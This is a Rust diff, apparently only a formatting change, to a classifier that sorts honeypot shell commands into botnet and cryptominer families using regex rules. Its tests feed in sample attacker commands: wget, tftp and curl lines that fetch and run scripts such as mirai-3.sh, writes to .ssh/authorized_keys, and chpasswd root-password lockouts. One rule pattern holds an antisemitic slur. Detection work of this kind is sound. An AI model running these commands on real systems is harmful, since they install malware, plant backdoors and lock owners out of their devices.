@@ -52,7 +52,10 @@ pub const TABLE1_RULES: &[(&str, &str)] = &[
         "root_12_char_capscout",
         r"(?=.*root:[A-Za-z0-9]{12})(?=.*awk\s+'\{print\s+\$4,\$5,\$6,\$7,\$8,\$9;\}')",
     ),
-    ("root_12_char_echo321", r"(?=.*root:[A-Za-z0-9]{12})(?=.*echo 321)"),
+    (
+        "root_12_char_echo321",
+        r"(?=.*root:[A-Za-z0-9]{12})(?=.*echo 321)",
+    ),
     ("perl_dred_miner", r"(?=.*perl)(?=.*dred)"),
     ("stx_miner", r"(?=.*stx)(?=.*LC_ALL)"),
     ("fr***_attack", r"fuckjewishpeople"),
@@ -83,9 +86,15 @@ pub const TABLE1_RULES: &[(&str, &str)] = &[
     ),
     // --- uname family: specific flag sets before the catch-all `-a`.
     ("uname_svnrm", r"uname\s+-s\s+-v\s+-n\s+-r\s+-m"),
-    ("uname_snri_nproc", r"(?=.*nproc)(?=.*\buname\s+-s\s+-n\s+-r\s+-i\b)"),
+    (
+        "uname_snri_nproc",
+        r"(?=.*nproc)(?=.*\buname\s+-s\s+-n\s+-r\s+-i\b)",
+    ),
     ("uname_a_nproc", r"(?=.*nproc)(?=.*\buname\s+-a\b)"),
-    ("uname_svnr", r"(?=.*uname\s+-s\s+-v\s+-n\s+-r)(?=.*model\s+name)"),
+    (
+        "uname_svnr",
+        r"(?=.*uname\s+-s\s+-v\s+-n\s+-r)(?=.*model\s+name)",
+    ),
     ("uname_a", r"uname\s+-a"),
     // --- busybox family: specific shapes before the catch-all.
     (
@@ -94,11 +103,17 @@ pub const TABLE1_RULES: &[(&str, &str)] = &[
     ),
     ("bbox_loaderwget", r"loader\.wget"),
     ("bbox_echo_elf", r"\\x45\\x4c\\x46"),
-    ("bbox_5_char_v2", r"(?=.*/bin/busybox\s+[a-zA-Z0-9]{5})(?=.*tftp;\s+wget)"),
+    (
+        "bbox_5_char_v2",
+        r"(?=.*/bin/busybox\s+[a-zA-Z0-9]{5})(?=.*tftp;\s+wget)",
+    ),
     ("bbox_rand_exec", r"(?=.*/bin/busybox\s+[A-Z]{5})(?=.*\./)"),
     ("bbox_unlabelled", r"/bin/busybox\s|busybox\s"),
     // --- generic loader conjunctions, most tools first.
-    ("gen_curl_echo_ftp_wget", r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)"),
+    (
+        "gen_curl_echo_ftp_wget",
+        r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)",
+    ),
     ("gen_curl_echo_ftp", r"(?=.*curl)(?=.*echo)(?=.*ftp)"),
     ("gen_curl_echo_wget", r"(?=.*curl)(?=.*echo)(?=.*wget)"),
     ("gen_curl_ftp_wget", r"(?=.*curl)(?=.*ftp)(?=.*wget)"),
@@ -176,7 +191,10 @@ mod tests {
 
     #[test]
     fn mdrfckr_wins_over_rapperbot_key_prefix() {
-        let text = format!(r#"echo "{}">>.ssh/authorized_keys"#, botnet::MDRFCKR_KEY_LINE);
+        let text = format!(
+            r#"echo "{}">>.ssh/authorized_keys"#,
+            botnet::MDRFCKR_KEY_LINE
+        );
         assert_eq!(c().classify(&text), "mdrfckr");
         // A non-mdrfckr key with the same prefix is rapperbot.
         assert_eq!(
@@ -221,12 +239,18 @@ mod tests {
             cl.classify("cd /tmp; tftp; wget http://198.51.100.4/mirai-3.sh; sh mirai-3.sh; /bin/busybox XQKPD"),
             "bbox_5_char_v2"
         );
-        assert_eq!(cl.classify("/bin/busybox KDVJSQA; ./x9k2m1"), "bbox_rand_exec");
+        assert_eq!(
+            cl.classify("/bin/busybox KDVJSQA; ./x9k2m1"),
+            "bbox_rand_exec"
+        );
         assert_eq!(
             cl.classify("/bin/busybox wget http://1.2.3.4/g.sh; sh g.sh"),
             "bbox_unlabelled"
         );
-        assert_eq!(cl.classify("wget http://x/loader.wget -O .l; sh .l"), "bbox_loaderwget");
+        assert_eq!(
+            cl.classify("wget http://x/loader.wget -O .l; sh .l"),
+            "bbox_loaderwget"
+        );
         assert_eq!(
             cl.classify(r#"echo -ne "\x7f\x45\x4c\x46" > .e; ./.e"#),
             "bbox_echo_elf"
@@ -240,19 +264,28 @@ mod tests {
             cl.classify("cd /tmp; curl -O http://h/x; echo a >> x; ftpget h x x; wget http://h/x"),
             "gen_curl_echo_ftp_wget"
         );
-        assert_eq!(cl.classify("cd /tmp; wget http://h/x.sh; sh x.sh"), "gen_wget");
+        assert_eq!(
+            cl.classify("cd /tmp; wget http://h/x.sh; sh x.sh"),
+            "gen_wget"
+        );
         assert_eq!(cl.classify("curl http://h/x | sh"), "gen_curl");
         assert_eq!(
             cl.classify("cd /tmp; wget http://h/x; curl -O http://h/x"),
             "gen_curl_wget"
         );
-        assert_eq!(cl.classify("tftp -g -r x.sh 203.0.113.4; sh x.sh"), "gen_ftp");
+        assert_eq!(
+            cl.classify("tftp -g -r x.sh 203.0.113.4; sh x.sh"),
+            "gen_ftp"
+        );
     }
 
     #[test]
     fn lockout_family() {
         let cl = c();
-        assert_eq!(cl.classify("echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd"), "root_17_char_pwd");
+        assert_eq!(
+            cl.classify("echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd"),
+            "root_17_char_pwd"
+        );
         assert_eq!(
             cl.classify(
                 r#"echo root:a1b2c3d4e5f6|chpasswd; cat /proc/cpuinfo | awk '{print $4,$5,$6,$7,$8,$9;}'"#
@@ -272,10 +305,19 @@ mod tests {
             cl.classify("curl https://a/ -s -X GET --max-redirs 5 --cookie 'x'"),
             "curl_maxred"
         );
-        assert_eq!(cl.classify("export LC_ALL=C; wget http://h/stx -O stx"), "stx_miner");
-        assert_eq!(cl.classify("wget http://h/m -O dred.pl; which perl"), "perl_dred_miner");
+        assert_eq!(
+            cl.classify("export LC_ALL=C; wget http://h/stx -O stx"),
+            "stx_miner"
+        );
+        assert_eq!(
+            cl.classify("wget http://h/m -O dred.pl; which perl"),
+            "perl_dred_miner"
+        );
         assert_eq!(cl.classify("openssl passwd -1 Xy12Zw34"), "openssl_passwd");
-        assert_eq!(cl.classify("echo daemon:Password123|chpasswd"), "passwd123_daemon");
+        assert_eq!(
+            cl.classify("echo daemon:Password123|chpasswd"),
+            "passwd123_daemon"
+        );
         assert_eq!(
             cl.classify("wget -4 http://h/d.sh || dget -4 http://h/d.sh"),
             "wget_dget"
@@ -295,7 +337,10 @@ mod tests {
             "rm_obf_pattern_1"
         );
         assert_eq!(cl.classify("sh update.sh"), "update_attack");
-        assert_eq!(cl.classify("wget http://h/sora.sh; sh sora.sh"), "sora_attack");
+        assert_eq!(
+            cl.classify("wget http://h/sora.sh; sh sora.sh"),
+            "sora_attack"
+        );
     }
 
     #[test]
@@ -366,9 +411,27 @@ mod tests {
             Archetype::Passwd123Daemon,
             Archetype::RmObfPattern1,
             Archetype::WgetDget,
-            Archetype::GenLoader { curl: true, echo: false, ftp: false, wget: true, exec: true },
-            Archetype::GenLoader { curl: false, echo: false, ftp: false, wget: true, exec: true },
-            Archetype::GenLoader { curl: true, echo: true, ftp: true, wget: true, exec: true },
+            Archetype::GenLoader {
+                curl: true,
+                echo: false,
+                ftp: false,
+                wget: true,
+                exec: true,
+            },
+            Archetype::GenLoader {
+                curl: false,
+                echo: false,
+                ftp: false,
+                wget: true,
+                exec: true,
+            },
+            Archetype::GenLoader {
+                curl: true,
+                echo: true,
+                ftp: true,
+                wget: true,
+                exec: true,
+            },
         ];
         for bot in bots {
             for seed in 0..8u64 {
